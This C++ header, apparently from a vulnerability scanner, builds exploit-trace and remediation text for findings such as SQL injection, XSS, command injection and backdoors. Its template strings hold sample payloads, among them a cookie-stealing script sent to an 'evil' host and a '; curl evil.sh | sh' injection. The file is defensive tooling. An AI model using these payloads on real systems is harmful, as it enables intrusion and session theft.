#pragma once

#include "malscan/backend.hpp"
#include "malscan/componentizer.hpp"
#include "malscan/lexer.hpp"
#include "malscan/rules.hpp"

#include <algorithm>
#include <array>
#include <cctype>
#include <map>
#include <regex>
#include <set>
#include <string>
#include <vector>

namespace malscan {

namespace detail {

/// Per-category text used by the rule backend. Placeholders: {name},
/// {input}, {line}, {sink}.
struct CategoryPlaybook {
  std::string_view entry;
  std::array<std::string_view, 3> steps;
  std::string_view impact;
  std::string_view recommendation;
  std::string_view preserves;
};

inline const CategoryPlaybook &playbook(VulnCategory c) {
  static const std::map<VulnCategory, CategoryPlaybook> kBook = {
      {VulnCategory::sql_injection,
       {"{input} of `{name}`",
        {"Attacker submits a crafted value for {input} such as `' OR '1'='1' --`.",
         "`{name}` splices the value into SQL text at line {line} (`{sink}`) instead of binding it as a parameter.",
         "The database parses the injected fragment as SQL, so the attacker controls the query's WHERE clause or appends a UNION SELECT."},
        "Arbitrary rows can be read or modified, including credentials of other users; authentication checks built on the query can be bypassed.",
        "Use a parameterized query (prepared statement with bound placeholders) for every value taken from {input}; never build SQL by concatenation or string formatting.",
        "Bound parameters carry the same values to the database, so legitimate lookups return the same rows; only quote and keyword characters stop being interpreted as SQL."}},
      {VulnCategory::cross_site_scripting,
       {"{input} of `{name}`",
        {"Attacker places markup such as `<script>fetch('//evil/'+document.cookie)</script>` in {input}.",
         "`{name}` writes the value into HTML at line {line} (`{sink}`) without output encoding.",
         "A victim's browser renders the response and runs the attacker's script in the application's origin."},
        "Session theft, account takeover and actions performed on behalf of the victim.",
        "HTML-encode {input} for the context it is written into (or use the template engine's auto-escaping / textContent) before it reaches the response.",
        "Encoding changes only how special characters are represented; the text users see is unchanged."}},
      {VulnCategory::remote_code_execution,
       {"{input} of `{name}`",
        {"Attacker sends a payload in {input} that is valid code in the host language.",
         "`{name}` hands the value to a dynamic code evaluator at line {line} (`{sink}`).",
         "The payload runs with the privileges of the application process."},
        "Full compromise of the application process: data theft, persistence, and lateral movement.",
        "Remove dynamic evaluation of {input}; parse the expected data format explicitly (e.g. a literal parser or a whitelist of operations) instead.",
        "A dedicated parser accepts the same well-formed inputs legitimate callers send, while rejecting anything that is not data."}},
      {VulnCategory::command_injection,
       {"{input} of `{name}`",
        {"Attacker appends shell metacharacters to {input}, e.g. `; curl evil.sh | sh`.",
         "`{name}` builds a shell command with the value at line {line} (`{sink}`) and runs it through a shell.",
         "The shell executes the attacker's extra command alongside the intended one."},
        "Arbitrary operating-system commands run as the service account.",
        "Invoke the program directly with an argument list (no shell), and validate {input} against an allow-list of expected values.",
        "The same program receives the same arguments for legitimate input; only shell interpretation of metacharacters is removed."}},
      {VulnCategory::path_traversal,
       {"{input} of `{name}`",
        {"Attacker supplies a path containing `../` sequences or an absolute path in {input}.",
         "`{name}` joins the value onto a base directory at line {line} (`{sink}`) without normalising it.",
         "The resulting path escapes the intended directory and the file is opened anyway."},
        "Disclosure or overwrite of arbitrary files readable by the process, such as configuration secrets or keys.",
        "Resolve the combined path to its canonical form and reject it unless it stays under the base directory; prefer looking files up by identifier.",
        "Files inside the base directory resolve to the same location as before, so valid requests are served unchanged."}},
      {VulnCategory::insecure_deserialization,
       {"{input} of `{name}`",
        {"Attacker crafts a serialized object graph and delivers it through {input}.",
         "`{name}` deserializes the bytes at line {line} (`{sink}`) with a format that can instantiate arbitrary types.",
         "Gadget code runs during deserialization, before the application inspects the result."},
        "Remote code execution or object injection inside the application process.",
        "Switch to a data-only format (JSON with an explicit schema) or a safe loader, and authenticate serialized data before decoding it.",
        "The same fields are carried in the data-only format, so callers receive equivalent values."}},
      {VulnCategory::hardcoded_credentials,
       {"the source or build artifacts containing `{name}`",
        {"Attacker obtains a copy of the code or binary (repository access, leaked artifact, decompilation).",
         "The secret literal at line {line} (`{sink}`) is read directly from it.",
         "The credential is used against the service it protects, which cannot tell the attacker from the application."},
        "Unauthorized access to the protected service; rotation requires a code change and redeploy.",
        "Load the secret at runtime from the environment or a secrets manager and rotate the exposed value.",
        "The application receives the same secret value through configuration, so authentication continues to work."}},
      {VulnCategory::backdoor,
       {"{input} of `{name}`",
        {"Attacker learns the hidden trigger (a magic value or undocumented switch) from the code at line {line} (`{sink}`).",
         "Attacker sends that value through {input}.",
         "`{name}` takes the concealed branch and skips the normal authentication or authorization checks."},
        "Persistent unauthorized access that survives password changes and evades audit trails.",
        "Delete the hidden branch and route every caller through the regular authentication and authorization checks.",
        "Legitimate users never relied on the hidden branch, so their behaviour is unaffected."}},
      {VulnCategory::logic_bomb,
       {"the trigger condition evaluated in `{name}`",
        {"The condition at line {line} (`{sink}`) waits for a date, counter or environment state chosen by the author.",
         "Once the condition becomes true during normal operation, `{name}` takes the dormant branch.",
         "The branch performs a destructive action such as deleting data or disabling the service."},
        "Data loss or outage at a time chosen by the attacker, typically after they have left.",
        "Remove the time- or state-triggered destructive branch and require destructive maintenance to go through an audited, explicit operation.",
        "The normal path is untouched; only the concealed destructive branch disappears."}},
      {VulnCategory::privilege_escalation,
       {"{input} of `{name}`",
        {"Attacker controls {input}, which decides the privileges the code runs with or grants.",
         "`{name}` raises privileges or assigns a role at line {line} (`{sink}`) without verifying the caller is entitled to it.",
         "The attacker performs actions reserved for administrators or the root user."},
        "Administrative control over the application or host.",
        "Derive roles and privileges from server-side state of the authenticated user, drop elevated privileges as soon as they are not needed, and check authorization before every privileged action.",
        "Callers that already hold the role keep it, so legitimate administrative flows still work."}},
  };
  return kBook.at(c);
}

inline std::string substitute(std::string_view tmpl,
                              const std::map<std::string, std::string> &vars) {
  std::string out;
  for (std::size_t i = 0; i < tmpl.size();) {
    if (tmpl[i] == '{') {
      auto close = tmpl.find('}', i);
      if (close != std::string_view::npos) {
        auto it = vars.find(std::string(tmpl.substr(i + 1, close - i - 1)));
        if (it != vars.end()) {
          out += it->second;
          i = close + 1;
          continue;
        }
      }
    }
    out += tmpl[i++];
  }
  return out;
}

/// Identifiers followed by '(' in masked code, first occurrence order.
inline std::vector<std::string> called_names(std::string_view code,
                                             std::string_view self,
                                             std::size_t limit) {
  std::vector<std::string> out;
  static const std::set<std::string_view> kIgnore = {
      "def", "function", "fn", "func", "fun", "class", "print", "super", "println",
      "elsif", "lambda", "not", "and", "or", "assert"};
  for (std::size_t i = 0; i < code.size(); ++i) {
    if (code[i] != '(')
      continue;
    std::size_t j = i;
    while (j > 0 && (code[j - 1] == ' ' || code[j - 1] == '\t'))
      --j;
    std::size_t end = j;
    while (j > 0 && is_ident_char(code[j - 1]))
      --j;
    if (j == end || std::isdigit(static_cast<unsigned char>(code[j])))
      continue;
    std::string name(code.substr(j, end - j));
    if (name == self || is_control_keyword(name) || kIgnore.count(name))
      continue;
    if (std::find(out.begin(), out.end(), name) == out.end())
      out.push_back(std::move(name));
    if (out.size() >= limit)
      break;
  }
  return out;
}

/// True when `word` occurs in `line` other than as the receiver of a method
/// call (`db.query(...)` names a service object, not the tainted value).
inline bool mentions_as_value(std::string_view line, std::string_view word) {
  static const std::regex kMethodCall(R"(^\s*(\.|->)\s*[A-Za-z_$][\w$]*\s*\()");
  for (auto p = find_word(line, word); p != std::string_view::npos;
       p = find_word(line, word, p + 1)) {
    auto rest = line.substr(p + word.size());
    if (!std::regex_search(rest.begin(), rest.end(), kMethodCall))
      return true;
  }
  return false;
}

inline std::string join(const std::vector<std::string> &items, std::string_view sep) {
  std::string out;
  for (const auto &s : items) {
    if (!out.empty())
      out += sep;
    out += s;
  }
  return out;
}

inline std::string_view kind_word(ComponentKind k) {
  switch (k) {
  case ComponentKind::function: return "Function";
  case ComponentKind::method: return "Method";
  case ComponentKind::class_: return "Class";
  case ComponentKind::module_fragment: return "Top-level code";
  }
  return "";
}

} // namespace detail

/// Deterministic stand-in for the model: summaries come from fixed templates
/// and findings are derived one per indicator category.
class RuleBackend : public Backend {
public:
  explicit RuleBackend(const RuleSet &rules,
                       PromptTemplates templates = {})
      : templates_(std::move(templates)) {
    for (const auto &r : rules.rules)
      descriptions_[r.rule_id] = r.description;
  }

  [[nodiscard]] std::string id() const override { return "rules"; }
  [[nodiscard]] std::string template_version() const override {
    return templates_.version();
  }
  [[nodiscard]] std::size_t estimate_request_tokens(const BackendRequest &req) const override {
    return render_prompt(templates_, req).estimated_tokens();
  }

  std::string summarize(const BackendRequest &req) override {
    const auto &c = req.component;
    if (is_blank(c.source))
      return "Empty code fragment with no executable content.";
    check_budget(req);

    std::string code;
    try {
      code = lexer::mask(c.source, c.language);
    } catch (const ParseFailure &) {
      code = c.source;
    }
    const std::string where = "(" + std::string(display_name(c.language)) +
                              ", lines " + std::to_string(c.line_start) + "-" +
                              std::to_string(c.line_end) + ")";
    auto calls = detail::called_names(code, c.name, 6);
    if (c.kind == ComponentKind::function || c.kind == ComponentKind::method) {
      // Drop the component's own name and parameter list (first "call").
      auto params = parameter_names(c);
      std::string text = std::string(detail::kind_word(c.kind)) + " `" + c.name + "` " + where +
                         " takes " +
                         (params.empty() ? std::string("no parameters")
                                         : "parameters (" + detail::join(params, ", ") + ")");
      static const std::regex kReturnValue(R"(\breturn\b[ \t]*[^\s;}])");
      bool returns_value = std::regex_search(code, kReturnValue);
      text += returns_value ? " and returns a value computed from its inputs"
                            : " and returns without an explicit value";
      if (!calls.empty())
        text += "; it calls " + detail::join(calls, ", ");
      return text + ".";
    }
    if (c.kind == ComponentKind::class_) {
      std::vector<std::string> methods;
      try {
        auto inner = SourceFile::from_bytes("component", c.source, c.language);
        for (const auto &m : decompose(inner))
          if (m.kind == ComponentKind::method)
            methods.push_back(m.name);
      } catch (const ParseFailure &) {
      }
      std::string text = "Class `" + c.name + "` " + where;
      if (methods.empty())
        return text + " declares data and behaviour but no methods of its own.";
      return text + " groups " + std::to_string(methods.size()) + " method(s): " +
             detail::join(methods, ", ") + ".";
    }
    std::size_t lines = c.line_end - c.line_start + 1;
    std::string text = "Top-level code " + where + " spanning " + std::to_string(lines) +
                       " line(s)";
    if (!calls.empty())
      text += "; it calls " + detail::join(calls, ", ");
    return text + ".";
  }

  DetectionReport analyze(const BackendRequest &req) override {
    if (!is_blank(req.component.source))
      check_budget(req);
    DetectionReport report;
    report.component_id = req.component.id;
    report.backend_id = id();
    report.summary = req.summary.value_or("");

    // Group indicators by category, keeping first-seen order.
    std::map<VulnCategory, std::vector<const Indicator *>> by_category;
    for (const auto &ind : req.indicators)
      by_category[ind.category].push_back(&ind);

    const auto params = parameter_names(req.component);
    for (const auto &[category, inds] : by_category) {
      const Indicator *top = inds.front();
      for (const auto *ind : inds)
        if (cvss::base_score(ind->vector) > cvss::base_score(top->vector))
          top = ind;
      report.findings.push_back(make_finding(req.component, category, inds, *top, params));
    }
    sort_findings(report.findings);

    json raw = json::array();
    for (const auto &f : report.findings)
      raw.push_back(to_json(f));
    report.raw_response_digest = digest_of(raw.dump());
    return report;
  }

private:
  void check_budget(const BackendRequest &req) const {
    auto estimated = estimate_request_tokens(req);
    if (estimated > req.token_budget)
      throw BudgetExceeded(estimated, req.token_budget);
  }

  static std::string line_text(const CodeComponent &c, std::size_t file_line) {
    std::size_t target = file_line - c.line_start;
    std::size_t pos = 0;
    for (std::size_t i = 0; i < target; ++i) {
      pos = c.source.find('\n', pos);
      if (pos == std::string::npos)
        return {};
      ++pos;
    }
    auto end = c.source.find('\n', pos);
    return c.source.substr(pos, end == std::string::npos ? std::string::npos : end - pos);
  }

  Finding make_finding(const CodeComponent &c, VulnCategory category,
                       const std::vector<const Indicator *> &inds,
                       const Indicator &top,
                       const std::vector<std::string> &params) const {
    // The tainted input: first parameter mentioned on an indicator line.
    std::string tainted;
    for (const auto *ind : inds) {
      auto line = line_text(c, ind->line);
      for (const auto &p : params)
        if (detail::mentions_as_value(line, p)) {
          tainted = p;
          break;
        }
      if (!tainted.empty())
        break;
    }
    std::string input = tainted.empty() ? std::string("untrusted input")
                                        : "parameter `" + tainted + "`";
    if (tainted.empty() && !params.empty() && category != VulnCategory::hardcoded_credentials &&
        category != VulnCategory::logic_bomb) {
      // Skip the declaration, then keep parameters the body uses as values.
      std::vector<std::string> used;
      for (const auto &p : params) {
        auto decl = detail::find_word(c.source, p);
        if (decl != std::string::npos &&
            detail::mentions_as_value(std::string_view(c.source).substr(decl + p.size()), p))
          used.push_back(p);
      }
      if (!used.empty())
        input = std::string(used.size() == 1 ? "untrusted input in parameter `"
                                             : "untrusted input in parameters `") +
                detail::join(used, "`, `") + "`";
    }

    std::string sink = std::string(trim(top.excerpt));
    if (sink.size() > 80)
      sink = sink.substr(0, utf8_floor(sink, 77)) + "...";
    const std::map<std::string, std::string> vars = {
        {"name", c.name},
        {"input", input},
        {"line", std::to_string(top.line)},
        {"sink", sink},
    };
    const auto &book = detail::playbook(category);

    Finding f;
    f.category = category;
    f.title = std::string(display_name(category)) + " in `" + c.name + "`";
    std::string explanation;
    for (const auto *ind : inds) {
      if (!explanation.empty())
        explanation += " ";
      explanation += "Rule " + ind->rule_id + " matched `" + std::string(trim(ind->excerpt)) +
                     "` at line " + std::to_string(ind->line);
      auto d = descriptions_.find(ind->rule_id);
      if (d != descriptions_.end() && !d->second.empty())
        explanation += ": " + d->second;
      explanation += ".";
    }
    f.explanation = explanation;
    f.severity_vector = top.vector;
    f.score = cvss::base_score(top.vector);
    f.confidence = inds.size() > 1 ? Confidence::high : Confidence::medium;
    std::string entry = detail::substitute(book.entry, vars);
    if (!entry.empty())
      entry[0] = static_cast<char>(std::toupper(static_cast<unsigned char>(entry[0])));
    f.exploit_trace.entry_point = entry;
    for (auto step : book.steps)
      f.exploit_trace.steps.push_back(detail::substitute(step, vars));
    f.exploit_trace.impact = std::string(book.impact);
    f.remediation.recommendation = detail::substitute(book.recommendation, vars);
    f.remediation.preserves_functionality_note = std::string(book.preserves);
    return f;
  }

  PromptTemplates templates_;
  std::map<std::string, std::string> descriptions_;
};

} // namespace malscan
